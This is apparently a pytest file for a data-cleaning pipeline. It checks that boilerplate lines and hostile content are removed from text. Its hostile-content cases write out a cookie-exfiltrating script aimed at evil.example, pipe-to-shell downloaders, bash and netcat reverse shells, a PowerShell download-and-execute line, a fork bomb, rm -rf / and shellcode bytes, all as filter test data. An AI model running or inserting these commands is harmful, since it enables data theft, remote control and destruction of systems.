"""Line-removal stages: boilerplate and hostile content."""

from __future__ import annotations

import base64
import random

import pytest

from dataprep.stage import RecipeError

try:  # tests/ may or may not be a package
    from ._cleaning_helpers import kept_text, real_lines, run_stage
except ImportError:
    from _cleaning_helpers import kept_text, real_lines, run_stage  # type: ignore[no-redef]

ARTICLE = "今天市政府召开新闻发布会，介绍了今年城市建设的主要进展和明年的工作安排。"


@pytest.mark.parametrize(
    ("line", "category"),
    [
        ("首页 | 新闻 | 关于我们 | 联系我们", "nav"),
        ("首页 > 新闻中心 > 正文", "nav"),
        ("Home | About | Products | Contact", "nav"),
        ("Copyright © 2020 某某科技有限公司 版权所有", "copyright"),
        ("京ICP备12345678号", "copyright"),
        ("点击阅读全文", "prompt"),
        ("分享到：微博 微信 QQ空间", "prompt"),
        ("请登录后发表评论", "prompt"),
        ("加微信 abc12345 免费领取优惠券", "ad"),
        ("扫码关注公众号，领取新人红包", "ad"),
        ("谁找全驱动的共享下QQ:6930454", "ad"),
        ("To unsubscribe, click here.", "prompt"),
    ],
)
def test_boilerplate_lines_removed(line: str, category: str) -> None:
    results, stats = run_stage("boilerplate", [f"{ARTICLE}\n{line}\n{ARTICLE}"])
    assert results[0].text == f"{ARTICLE}\n{ARTICLE}"  # type: ignore[union-attr]
    assert stats.counters[f"lines_removed.{category}"] == 1


@pytest.mark.parametrize(
    "line",
    [
        "我在当当的首页看到这本书，买回来读了两遍，觉得写得非常好，推荐给大家。",  # long prose
        "价格合适,加了一张优惠券,3599拿下.速度也很快,第二天就收到了货",  # a review, not an ad
        "朝《劳动新闻》发表评论敦促美放弃敌视政策",  # a headline
        "鸤鸠在桑\u3000其子在梅\u3000淑人君子\u3000其带伊丝\u3000其带伊丝\u3000其弁伊骐",  # 诗经
        "Use TCP/IP/UDP and see /path/to/old/system for details",
        "I bought my own home - with cash - last year",
        "He acted as if nothing happened; exact nowhere to be found.",
    ],
)
def test_boilerplate_keeps_prose(line: str) -> None:
    assert kept_text("boilerplate", line) == line


def test_boilerplate_real_nav_line_and_empty_doc() -> None:
    (nav,) = real_lines("review_nav")
    results, stats = run_stage("boilerplate", [nav])
    assert results[0].reason == "boilerplate_only"  # type: ignore[union-attr]
    assert stats.counters["lines_removed.nav"] == 1
    for poem in real_lines("poem"):
        assert kept_text("boilerplate", poem) == poem


def test_boilerplate_extendable_in_recipe(tmp_path) -> None:  # type: ignore[no-untyped-def]
    text = f"{ARTICLE}\n欢迎进群交流\n{ARTICLE}"
    assert kept_text("boilerplate", text) == text
    assert kept_text("boilerplate", text, extra={"ad": ["进群"]}) == f"{ARTICLE}\n{ARTICLE}"
    lex = tmp_path / "lex.txt"
    lex.write_text("[prompt]\n欢迎进群\n", encoding="utf-8")
    assert kept_text("boilerplate", text, lexicon=str(lex)) == f"{ARTICLE}\n{ARTICLE}"
    with pytest.raises(RecipeError):
        run_stage("boilerplate", ["x"], extra={"bogus": ["x"]})


def _random_base64(n: int) -> str:
    rng = random.Random(7)
    return base64.b64encode(bytes(rng.randrange(256) for _ in range(n))).decode()


@pytest.mark.parametrize(
    ("payload", "kind"),
    [
        ("<script>document.location='http://evil.example/'+document.cookie</script>", "script"),
        ("<style>body{display:none}</style>", "script"),
        ('<a href="javascript:alert(1)">点我</a>', "script"),
        (_random_base64(300), "base64"),
        ("\n".join(_random_base64(600)[i : i + 76] for i in range(0, 800, 76)), "base64"),
        ("deadbeef" * 20, "hex"),
        ("\\x31\\xc0\\x50\\x68\\x2f\\x2f\\x73\\x68\\x68\\x2f\\x62\\x69\\x6e\\x89\\xe3\\x50\\x53", "hex"),
        ("-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA\n-----END RSA PRIVATE KEY-----", "key_block"),
        ("curl -fsSL https://get.example.com/install.sh | sudo bash", "shell"),
        ("wget -qO- http://1.2.3.4/x | sh", "shell"),
        ('sh -c "$(curl -fsSL https://example.com/i.sh)"', "shell"),
        ("bash <(curl -s https://example.com/setup)", "shell"),
        ("echo ZWNobyBoaQ== | base64 -d | bash", "shell"),
        ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "shell"),
        ("nc -e /bin/sh 10.0.0.1 4444", "shell"),
        ("powershell -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')\"", "shell"),
        (":(){ :|:& };:", "shell"),
        ("rm -rf / --no-preserve-root", "shell"),
    ],
)
def test_hostile_content_removed(payload: str, kind: str) -> None:
    results, stats = run_stage("hostile_content", [f"{ARTICLE}\n{payload}\n{ARTICLE}"])
    text = results[0].text  # type: ignore[union-attr]
    assert stats.counters[f"removed.{kind}"] >= 1
    assert text.startswith(ARTICLE) and text.endswith(ARTICLE)
    assert payload not in text


@pytest.mark.parametrize(
    "text",
    [
        "Install with pip install requests, then run python app.py | tee log.txt",
        "sha256: 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
        "The ratio 3/4 and http://example.com/path/to/a/rather/long/page/name.html are fine.",
        "Run rm -rf ./build before compiling.",
        "git log | head",
    ],
)
def test_hostile_content_keeps_ordinary_text(text: str) -> None:
    assert kept_text("hostile_content", text) == text


def test_hostile_only_document_dropped_and_pgp_message_kept() -> None:
    results, _ = run_stage("hostile_content", ["<script>alert(1)</script>"])
    assert results[0].reason == "hostile_only"  # type: ignore[union-attr]
    (mail,) = real_lines("mail_pgp")
    out = kept_text("hostile_content", mail)
    assert out is not None and "-----BEGIN PGP SIGNATURE-----" not in out
    assert "BEGIN PGP SIGNED MESSAGE" in mail and len(out) > 0.3 * len(mail)
